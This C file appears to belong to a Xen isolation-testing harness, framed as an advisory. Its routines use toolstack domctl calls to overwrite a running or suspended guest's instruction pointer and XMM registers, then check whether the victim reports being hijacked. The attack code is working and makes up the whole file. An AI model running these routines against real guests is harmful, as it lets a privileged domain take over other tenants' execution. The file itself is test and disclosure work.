/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: a guest's registers, written by the toolstack's calls
 *
 * Claim:  dom0 makes a running guest execute what dom0 wants.
 * Method: XEN_DOMCTL_setvcpucontext, _sethvmcontext and _setvcpuextstate of
 *         the running guest, with another instruction pointer, or other vector
 *         registers; the first also while it is suspended, before it is
 *         resumed.
 * Stock:  accepted at any time; the guest jumps.
 */
#include <string.h>

#include "../attack.h"

#include <xen/hvm/save.h>

#define SIZE (64u << 10)

static enum verdict setvcpucontext(struct victim *v)
{
    vcpu_guest_context_any_t c;

    victim_pause(v);
    if ( xc_vcpu_getcontext(xch, v->id, 0, &c) )
        memset(&c, 0, sizeof(c));
    c.x64.user_regs.rip = VICTIM_HIJACK;
    xc_vcpu_setcontext(xch, v->id, 0, &c);
    victim_unpause(v);
    return victim_complains(v, "HIJACKED");
}
ATTACK(setvcpucontext, .needs = SHARED);

static enum verdict setvcpucontext_suspended(struct victim *v)
{
    struct xen_domctl resume = {0};
    vcpu_guest_context_any_t c;

    if ( !victim_suspended(v, 20) )
        return verdict(ERROR, "the guest does not suspend");
    if ( xc_vcpu_getcontext(xch, v->id, 0, &c) )
        memset(&c, 0, sizeof(c));
    c.x64.user_regs.rip = VICTIM_HIJACK;
    xc_vcpu_setcontext(xch, v->id, 0, &c);
    if ( domctl(v->id, XEN_DOMCTL_resumedomain, &resume) )
        return verdict(FAILURE, "it cannot be resumed");
    return victim_complains(v, "HIJACKED");
}
ATTACK(setvcpucontext_suspended, .needs = FRESH, .extra = "suspend");

static struct hvm_hw_cpu *cpu_record(uint8_t *state, unsigned int size)
{
    unsigned int at = 0;

    while ( at + sizeof(struct hvm_save_descriptor) <= size )
    {
        struct hvm_save_descriptor *d = (void *)(state + at);

        if ( d->typecode == HVM_SAVE_CODE(CPU) )
            return (void *)(d + 1);
        at += sizeof(*d) + d->length;
    }
    return NULL;
}

static enum verdict sethvmcontext(struct victim *v)
{
    static uint8_t state[SIZE];
    struct hvm_hw_cpu *cpu;
    int size;

    victim_pause(v);
    size = xc_domain_hvm_getcontext(xch, v->id, state, SIZE);
    cpu = size > 0 ? cpu_record(state, size) : NULL;
    if ( cpu )
    {
        cpu->rip = VICTIM_HIJACK;
        xc_domain_hvm_setcontext(xch, v->id, state, size);
    }
    victim_unpause(v);
    return victim_complains(v, "HIJACKED");
}
ATTACK(sethvmcontext, .needs = SHARED);

/*
 * XCR0 and XCR0_accum, as if the guest used x87 and SSE and nothing else (it
 * need not have said so); then the XSAVE area.
 */
#define EXT_HEADER 16
#define EXT_LEGACY 576
#define EXT_XMM 160
#define EXT_BV 512

static void change_xmm(uint8_t *state)
{
    unsigned int i;

    state[0] = state[8] = 3;
    state[EXT_HEADER + EXT_BV] &= 3;
    for ( i = 0; i < 128; i++ )
        state[EXT_HEADER + EXT_XMM + i] ^= 0xff;
}

/* While it rests, which is what it does nearly always. */
static enum verdict setvcpuextstate(struct victim *v)
{
    struct xen_domctl op = {0};
    uint8_t *state = xen_buffer(SIZE);
    unsigned int tries;

    for ( tries = 0; tries < 20; tries++ )
    {
        victim_pause(v);
        op.u.vcpuextstate.size = SIZE;
        set_xen_guest_handle_raw(op.u.vcpuextstate.buffer, NULL);
        if ( domctl(v->id, XEN_DOMCTL_getvcpuextstate, &op) )
            break;
        set_xen_guest_handle_raw(op.u.vcpuextstate.buffer, (void *)state);
        if ( domctl(v->id, XEN_DOMCTL_getvcpuextstate, &op) )
            break;
        change_xmm(state);
        op.u.vcpuextstate.size = EXT_HEADER + EXT_LEGACY;
        if ( domctl(v->id, XEN_DOMCTL_setvcpuextstate, &op) )
            break;
        victim_unpause(v);
        if ( victim_says(v, "XMM", 2) )
            return verdict(SUCCESS, "the guest's XMM registers have changed");
    }
    victim_unpause(v);
    return victim_complains(v, "XMM");
}
ATTACK(setvcpuextstate, .needs = SHARED);
